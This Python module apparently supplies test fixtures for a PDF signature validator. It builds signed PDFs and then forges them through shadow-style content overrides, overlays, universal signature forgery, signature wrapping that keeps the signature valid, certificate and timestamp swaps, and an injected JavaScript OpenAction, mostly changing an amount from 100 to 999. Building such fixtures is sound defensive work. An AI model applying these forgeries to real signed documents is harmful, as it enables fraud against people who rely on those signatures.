"""Signed files and what is done to them by people who may not. Each attack takes signed bytes and gives altered ones."""

from __future__ import annotations

import re
from io import BytesIO

import pikepdf
from asn1crypto import cms
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign.fields import MDPPerm, SigFieldSpec, SigSeedSubFilter, append_signature_field
from pyhanko.sign.signers import PdfSignatureMetadata, PdfSigner

ADBE = SigSeedSubFilter.ADOBE_PKCS7_DETACHED
PADES = SigSeedSubFilter.PADES


# --- honest files ---------------------------------------------------------------------------------------------------
def paper(text: str = "So tien: 100 dong", pages: int = 2, script: str = "") -> bytes:
    """Pages with a line, a picture and a form field."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    picture = pdf.make_stream(bytes(range(16)) * 4)
    picture.stream_dict = pikepdf.Dictionary(
        Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=8, Height=8,
        ColorSpace=pikepdf.Name.DeviceGray, BitsPerComponent=8,
    )  # fmt: skip
    for number in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.Contents = pdf.make_stream(
            f"BT /F1 12 Tf 72 700 Td ({text} - trang {number + 1}) Tj ET q 80 0 0 80 72 500 cm /Im1 Do Q".encode()
        )
        page.Resources = pikepdf.Dictionary(
            Font=pikepdf.Dictionary(F1=font), XObject=pikepdf.Dictionary(Im1=picture)
        )
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            FT=pikepdf.Name.Tx, T="SoTien", V="100", Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget,
            Rect=[72, 400, 200, 420], F=4, P=pdf.pages[0].obj,
        )
    )  # fmt: skip
    pdf.pages[0].Annots = pikepdf.Array([field])
    pdf.Root.AcroForm = pdf.make_indirect(pikepdf.Dictionary(Fields=pikepdf.Array([field])))
    if script:
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=script)
    out = BytesIO()
    pdf.save(out, static_id=True, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def with_fields(data: bytes, *names: str) -> bytes:
    """Empty signature fields, before anybody signs."""
    writer = IncrementalPdfFileWriter(BytesIO(data))
    for at, name in enumerate(names):
        append_signature_field(writer, SigFieldSpec(name, box=(300, 700 - 60 * at, 400, 740 - 60 * at)))
    return written(writer)


def signed(
    data: bytes,
    signer,
    field: str = "CoQuan",
    *,
    timestamper=None,
    subfilter=PADES,
    digest: str = "sha256",
    certify: MDPPerm | None = None,
    context=None,
    archive: bool = False,
    box: tuple[int, int, int, int] | None = None,
    in_place_only: bool = False,
) -> bytes:
    """One more signature. With `context` validation data goes in (B-LT), with `archive` a timestamp over all (B-LTA)."""
    meta = PdfSignatureMetadata(
        field_name=field,
        md_algorithm=digest,
        subfilter=subfilter,
        certify=certify is not None,
        docmdp_permissions=certify or MDPPerm.FILL_FORMS,
        embed_validation_info=context is not None,
        use_pades_lta=archive,
        validation_context=context,
        signer_key_usage=set(),
    )
    spec = None if in_place_only else SigFieldSpec(field, box=box)
    pdf_signer = _Lawless(meta, signer, timestamper=timestamper, new_field_spec=spec)
    out = BytesIO()
    pdf_signer.sign_pdf(
        IncrementalPdfFileWriter(BytesIO(data)), output=out, existing_fields_only=in_place_only
    )
    return out.getvalue()


class _Lawless(PdfSigner):
    """Signs also where an earlier signature forbids it."""

    def _enforce_certification_constraints(self, reader) -> None:
        return


def written(writer: IncrementalPdfFileWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


# --- bytes ----------------------------------------------------------------------------------------------------------
def contents_span(data: bytes, which: int = -1) -> tuple[int, int]:
    """Where the hexadecimal digits of a signature stand; `which` in the order of the file."""
    ranges = [
        [int(number) for number in match[1].split()]
        for match in re.finditer(rb"/ByteRange\s*\[([\d\s]+)\]", data)
    ]
    _, before, after, _ = ranges[which]
    return before + 1, after - 1


def content_byte_flipped(data: bytes) -> bytes:
    at = data.index(b"So tien: 100") + 9
    return data[:at] + b"9" + data[at + 1 :]


def signature_value_flipped(data: bytes) -> bytes:
    start, stop = contents_span(data)
    raw = bytearray.fromhex(data[start:stop].decode())
    content = cms.ContentInfo.load(bytes(raw))
    value = content["content"]["signer_infos"][0]["signature"].native
    raw[raw.index(value) + len(value) // 2] ^= 1
    return data[:start] + raw.hex().encode() + data[stop:]


def signature_altered(data: bytes, change, which: int = -1) -> bytes:
    """The CMS taken out, changed by `change(content_info)`, put back padded with zeros."""
    start, stop = contents_span(data, which)
    content = cms.ContentInfo.load(bytes.fromhex(data[start:stop].decode()))
    change(content)
    digits = content.dump(force=True).hex().encode()
    assert len(digits) <= stop - start
    return data[:start] + digits.ljust(stop - start, b"0") + data[stop:]


def signature_of_another_file(data: bytes, other: bytes) -> bytes:
    start, stop = contents_span(data)
    first, last = contents_span(other)
    digits = other[first:last].rstrip(b"0")
    assert len(digits) <= stop - start
    return data[:start] + digits.ljust(stop - start, b"0") + data[stop:]


def padding_filled(data: bytes) -> bytes:
    """Something hidden in the zeros after the signature, the only place no digest covers."""
    start, stop = contents_span(data)
    return data[: stop - 20] + b"41414141414141414141" + data[stop:]


def bytes_appended(data: bytes) -> bytes:
    """An object that only readers that repair files would find."""
    return data + b"\n4 0 obj\n<< /Length 44 >>\nstream\nBT (So tien: 999) Tj ET\nendstream\nendobj\n%%EOF\n"


def byte_range_renamed(data: bytes) -> bytes:
    return data.replace(b"/ByteRange", b"/ByteRangX")


# --- incremental updates --------------------------------------------------------------------------------------------
def page_of(writer: IncrementalPdfFileWriter, number: int = 0):
    return writer.root["/Pages"]["/Kids"].raw_get(number).get_object()


def page_added(data: bytes) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(data))
    pages = writer.root["/Pages"]
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/Parent"): writer.root.raw_get("/Pages"),
            pdf_name("/MediaBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
        }
    )
    pages["/Kids"].append(writer.add_object(page))
    pages[pdf_name("/Count")] = generic.NumberObject(len(pages["/Kids"]))
    writer.update_container(pages["/Kids"])
    writer.update_container(pages)
    return written(writer)


def pages_swapped(data: bytes) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(data))
    pages = writer.root["/Pages"]
    first, second = pages["/Kids"].raw_get(0), pages["/Kids"].raw_get(1)
    pages[pdf_name("/Kids")] = generic.ArrayObject([second, first])
    writer.update_container(pages)
    return written(writer)


def page_content_replaced(data: bytes) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(data))
    page = page_of(writer)
    evil = generic.StreamObject(stream_data=b"BT /F1 12 Tf 72 700 Td (So tien: 999 dong) Tj ET")
    page[pdf_name("/Contents")] = writer.add_object(evil)
    writer.update_container(page)
    return written(writer)


def content_stream_overridden(data: bytes) -> bytes:
    """Same page, same reference, other stream: the shadow attack "replace"."""
    writer = IncrementalPdfFileWriter(BytesIO(data))
    stream = page_of(writer)["/Contents"]
    stream._data = b"BT /F1 12 Tf 72 700 Td (So tien: 999 dong) Tj ET"
    stream._encoded_data = None
    writer.update_container(stream)
    return written(writer)


def picture_swapped(data: bytes) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(data))
    picture = page_of(writer)["/Resources"]["/XObject"]["/Im1"]
    picture._data = b"\xff" * 64
    picture._encoded_data = None
    writer.update_container(picture)
    return written(writer)


def _annotation(writer, subtype: str, rect=(60, 690, 400, 720)) -> generic.DictionaryObject:
    looks = generic.StreamObject(
        dict_data={
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 340, 30)]),
        },
        stream_data=b"1 g 0 0 340 30 re f",
    )
    return generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(subtype),
            pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in rect]),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): writer.add_object(looks)}),
        }
    )


def _annotate(writer, note) -> None:
    page = page_of(writer)
    notes = page["/Annots"]
    notes.append(note)
    writer.update_container(notes)
    writer.update_container(page)


def overlay_added(data: bytes) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(data))
    _annotate(writer, writer.add_object(_annotation(writer, "/Stamp")))
    return written(writer)


def form_value_changed(data: bytes) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(data))
    field = writer.root["/AcroForm"]["/Fields"][0]
    field[pdf_name("/V")] = pdf_string("999")
    writer.update_container(field)
    return written(writer)


def unsigned_field_with_picture(data: bytes) -> bytes:
    """A signature field nobody signs, whose looks cover the text ("sneaky signature")."""
    writer = IncrementalPdfFileWriter(BytesIO(data))
    widget = _annotation(writer, "/Widget")
    widget[pdf_name("/FT")] = pdf_name("/Sig")
    widget[pdf_name("/T")] = pdf_string("ChuKyMoi")
    ref = writer.add_object(widget)
    fields = writer.root["/AcroForm"]["/Fields"]
    fields.append(ref)
    writer.update_container(fields)
    _annotate(writer, ref)
    return written(writer)


def signature_removed(data: bytes, field: str = "CoQuan") -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(data))
    for ref in writer.root["/AcroForm"]["/Fields"]:
        each = ref.get_object()
        if each["/T"] == field:
            del each["/V"]
            writer.update_container(each)
    return written(writer)


def form_removed(data: bytes) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(data))
    del writer.root["/AcroForm"]
    writer.update_root()
    return written(writer)


def _signature_dictionary(writer: IncrementalPdfFileWriter):
    fields = [ref.get_object() for ref in writer.root["/AcroForm"]["/Fields"]]
    return next(field for field in fields if field.get("/FT") == "/Sig")["/V"]


def part_of_signature_removed(data: bytes, key: str) -> bytes:
    """Universal signature forgery: a reader that asks a missing part nothing finds nothing wrong."""
    writer = IncrementalPdfFileWriter(BytesIO(data))
    dictionary = _signature_dictionary(writer)
    del dictionary[key]
    writer.update_container(dictionary)
    return written(writer)


def part_of_signature_replaced(data: bytes, key: str, value) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(data))
    dictionary = _signature_dictionary(writer)
    dictionary[pdf_name(key)] = value
    writer.update_container(dictionary)
    return written(writer)


def wrapped(data: bytes) -> bytes:
    """Signature wrapping, first kind: the signed second part is moved to the end; where it stood comes a table of
    objects of the attacker, found through the signed startxref, with a signature dictionary whose ByteRange leaves
    everything between out. Digest and signature stay right."""
    match = list(re.finditer(rb"/ByteRange\s*\[([\d\s]+)\]", data))[-1]
    _, before, after, rest = (int(number) for number in match[1].split())
    head, digits, tail = data[:before], data[before:after], data[after : after + rest]
    number, dictionary_at = _object_before(head, before)
    dictionary = head[dictionary_at:] + digits + tail[: tail.index(b"endobj") + 7]
    table = int(re.findall(rb"startxref\s+(\d+)", tail)[-1])
    kept, old_table = tail[: table - after], tail[table - after :]
    trailer = old_table[old_table.index(b"trailer") : old_table.index(b"startxref")]
    evil = b"BT /F1 12 Tf 72 700 Td (So tien: 999 dong) Tj ET"
    stream_number = contents_number(data)
    stream = b"%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (stream_number, len(evil), evil)
    moved = 0
    for _ in range(
        2
    ):  # the ByteRange has to name a place that depends on how long everything before it became
        new_range = b"/ByteRange [0 %d %010d %d]" % (before, moved, rest)
        own = re.sub(rb"/ByteRange\s*\[[\d\s]+\]", new_range, dictionary)
        rows = dict(_table_entries(old_table)) | {
            number: table + 4096,
            stream_number: table + 4096 + len(own),
        }
        listing = b"xref\n" + b"".join(
            b"%d 1\n%010d 00000 n \n" % (each, place) for each, place in sorted(rows.items())
        )
        middle = (listing + trailer).ljust(4096) + own + stream
        moved = len(head) + len(digits) + len(kept) + len(middle)
    return head + digits + kept + middle + tail


def _object_before(data: bytes, at: int) -> tuple[int, int]:
    found = list(re.finditer(rb"(\d+) 0 obj", data[:at]))[-1]
    return int(found[1]), found.start()


def contents_number(data: bytes) -> int:
    """Number of the content stream of the first page."""
    return PdfFileReader(BytesIO(data)).root["/Pages"]["/Kids"][0].raw_get("/Contents").idnum


def _table_entries(table: bytes):
    lines = table.split(b"trailer")[0].split(b"\n")[1:]
    number = 0
    for line in lines:
        parts = line.split()
        if len(parts) == 2:
            number = int(parts[0])
        elif len(parts) == 3:
            if parts[2] == b"n":
                yield number, int(parts[0])
            number += 1


def repointed(data: bytes) -> bytes:
    """Signature wrapping, second kind: an update replaces the page, and the signature dictionary by one that still names
    the old range but now counts as part of the newest revision."""
    writer = IncrementalPdfFileWriter(BytesIO(data))
    dictionary = _signature_dictionary(writer)
    writer.update_container(dictionary)
    return written_over(writer, data)


def written_over(writer: IncrementalPdfFileWriter, data: bytes) -> bytes:
    page = page_of(writer)
    evil = generic.StreamObject(stream_data=b"BT /F1 12 Tf 72 700 Td (So tien: 999 dong) Tj ET")
    page[pdf_name("/Contents")] = writer.add_object(evil)
    writer.update_container(page)
    return written(writer)


# --- inside the signature -------------------------------------------------------------------------------------------
def certificate_swapped(data: bytes, other) -> bytes:
    """The signer's certificate replaced by another one that claims the same issuer and serial number."""

    def change(content: cms.ContentInfo) -> None:
        kept = [
            each
            for each in content["content"]["certificates"]
            if each.chosen.serial_number != other.serial_number
        ]
        content["content"]["certificates"] = cms.CertificateSet(
            [cms.CertificateChoices("certificate", other), *kept]
        )

    return signature_altered(data, change)


def certificates_removed(data: bytes) -> bytes:
    def change(content: cms.ContentInfo) -> None:
        content["content"]["certificates"] = cms.CertificateSet([])

    return signature_altered(data, change)


def timestamp_of(data: bytes) -> cms.ContentInfo:
    start, stop = contents_span(data)
    content = cms.ContentInfo.load(bytes.fromhex(data[start:stop].decode()))
    attribute = content["content"]["signer_infos"][0]["unsigned_attrs"][0]
    return cms.ContentInfo.load(attribute["values"][0].dump())


def timestamp_pasted(data: bytes, token: cms.ContentInfo) -> bytes:
    def change(content: cms.ContentInfo) -> None:
        content["content"]["signer_infos"][0]["unsigned_attrs"] = cms.CMSAttributes(
            [cms.CMSAttribute({"type": "signature_time_stamp_token", "values": [token]})]
        )

    return signature_altered(data, change)


def timestamp_backdated(data: bytes) -> bytes:
    """The year in the token turned back; its signature no longer holds."""
    start, stop = contents_span(data)
    raw = bytes.fromhex(data[start:stop].decode())
    time = timestamp_of(data)["content"]["encap_content_info"]["content"].parsed["gen_time"].contents
    assert raw.count(time) >= 1
    earlier = str(int(time[:4]) - 3).encode() + time[4:]
    return data[:start] + raw.replace(time, earlier).hex().encode() + data[stop:]


def looks_of_signature_replaced(data: bytes) -> bytes:
    """The picture of a signature says another name."""
    writer = IncrementalPdfFileWriter(BytesIO(data))
    fields = [ref.get_object() for ref in writer.root["/AcroForm"]["/Fields"]]
    field = next(each for each in fields if each.get("/FT") == "/Sig")
    field[pdf_name("/AP")] = generic.DictionaryObject(
        {pdf_name("/N"): _annotation(writer, "/Stamp")["/AP"].raw_get("/N")}
    )
    writer.update_container(field)
    return written(writer)


def page_turned(data: bytes) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(data))
    page = page_of(writer)
    page[pdf_name("/CropBox")] = generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 600)])
    writer.update_container(page)
    return written(writer)


def script_added(data: bytes) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(data))
    writer.root[pdf_name("/OpenAction")] = generic.DictionaryObject(
        {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): pdf_string("app.alert(1)")}
    )
    writer.update_root()
    return written(writer)


def broken_field_first(data: bytes) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(data))
    fields = writer.root["/AcroForm"]["/Fields"]
    fields.insert(0, generic.NumberObject(7))
    writer.update_container(fields)
    return written(writer)
